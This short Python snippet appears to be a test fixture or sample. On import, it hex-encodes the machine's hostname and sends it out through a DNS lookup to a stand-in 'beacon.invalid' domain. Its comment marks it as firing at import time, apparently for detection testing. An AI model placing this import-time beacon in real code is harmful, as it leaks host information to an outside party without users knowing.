import socket
name = socket.gethostname().encode().hex()
socket.gethostbyname(name + ".beacon.invalid")  # fires: import
